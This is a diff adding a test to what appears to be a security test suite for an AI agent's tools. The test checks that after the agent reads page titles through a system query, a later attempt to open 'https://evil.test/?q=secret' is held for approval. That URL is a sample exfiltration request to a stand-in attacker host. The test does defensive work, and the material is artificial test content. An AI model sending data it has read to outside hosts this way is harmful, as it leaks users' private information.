@@ -129,6 +129,14 @@ async def test_what_was_read_for_an_agent_counts_for_what_it_sends_later(home: H
     assert (before.told["state"], after.told["state"]) == ("done", "waiting")
 
 
+async def test_an_answer_about_what_is_known_here_counts_as_read_because_titles_of_pages_are_in_it(home: Home):
+    answer = await called(Calls(home, 0), "system_query", question="tabs?")
+
+    sent = await called(Calls(home, 0), "url_open", url="https://evil.test/?q=secret")
+
+    assert (answer.failed, sent.told["state"]) == (False, "waiting")
+
+
 async def test_what_one_connection_read_counts_for_every_other_but_that_of_an_agent_named_by_the_person(home: Home):
     link = "https://evil.test/?q=secret"
     await called(Calls(home, 0), "page_text")
